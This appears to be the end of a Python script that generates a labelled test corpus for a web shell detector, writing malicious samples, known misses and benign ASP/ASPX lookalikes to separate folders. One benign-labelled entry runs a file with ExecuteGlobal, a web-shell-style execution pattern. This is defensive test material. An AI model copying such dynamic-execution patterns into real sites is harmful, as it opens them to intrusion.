ExecuteGlobal ReadFile(Server.MapPath("inc/config.inc"))
Response.Write Request.QueryString("id")
%>
""",
    "asp_mailer.asp": """<%
Set m = Server.CreateObject("CDO.Message")
m.To = "webmaster@example.gov.cn"
m.Subject = "Feedback"
m.TextBody = Server.HTMLEncode(Request.Form("body"))
m.Send
%>
""",
    "aspx_thumbnail.aspx": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  var si = new System.Diagnostics.ProcessStartInfo("convert.exe", "logo.png -resize 64x64 thumb.png");
  si.UseShellExecute = false;
  System.Diagnostics.Process.Start(si).WaitForExit();
  Response.Write(Server.HtmlEncode(Request.QueryString["ok"] ?? ""));
}
</script>
""",
    "aspx_plugin_assembly.aspx": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Portal.Plugins.dll"));
  var t = asm.GetType("Portal.Plugins.News");
  lit.Text = Server.HtmlEncode(t.FullName + Request["id"]);
}
</script>
<asp:Literal id="lit" runat="server" />
""",
    "ashx_download.ashx": """<%@ WebHandler Language="C#" Class="Dl" %>
using System.Web;
public class Dl : IHttpHandler {
  public void ProcessRequest(HttpContext ctx) {
    string id = ctx.Request["id"];
    if (!System.Text.RegularExpressions.Regex.IsMatch(id ?? "", "^[0-9]+$")) { ctx.Response.StatusCode = 404; return; }
    ctx.Response.TransmitFile(ctx.Server.MapPath("~/files/" + id + ".pdf"));
  }
  public bool IsReusable { get { return true; } }
}
""",
}


def main():
    rng = random.Random(SEED)
    dirs = {d: os.path.join(HERE, d) for d in ("samples", "known_misses", "benign")}
    for d in dirs.values():
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            if old.startswith(("generic_eval2_", "eval2_")):
                os.remove(os.path.join(d, old))
    files = families(rng)
    for i in range(30):
        ext = "php" if i % 7 else rng.choice(["phtml", "php5", "inc"])
        files["php_tech_%02d_%s.%s" % (i, PHP_TECHNIQUES[i % len(PHP_TECHNIQUES)], ext)] = php_technique(rng, i)
    for name, t in JSP.items():
        files[name] = t % param(rng)
    for name, t in ASP.items():
        files[name] = t % param(rng)
    for name, text in files.items():
        path = (os.path.join(dirs["known_misses"], "eval2_" + name) if name in KNOWN_MISSES
                else os.path.join(dirs["samples"], "generic_eval2_" + name))
        with open(path, "w", encoding="latin-1") as f:
            f.write(text)
    for name, text in BENIGN.items():
        with open(os.path.join(dirs["benign"], "eval2_" + name), "w") as f:
            f.write(text)
    print("wrote %d malicious (%d known misses) and %d benign files" % (
        len(files), len(KNOWN_MISSES), len(BENIGN)))


if __name__ == "__main__":
    main()
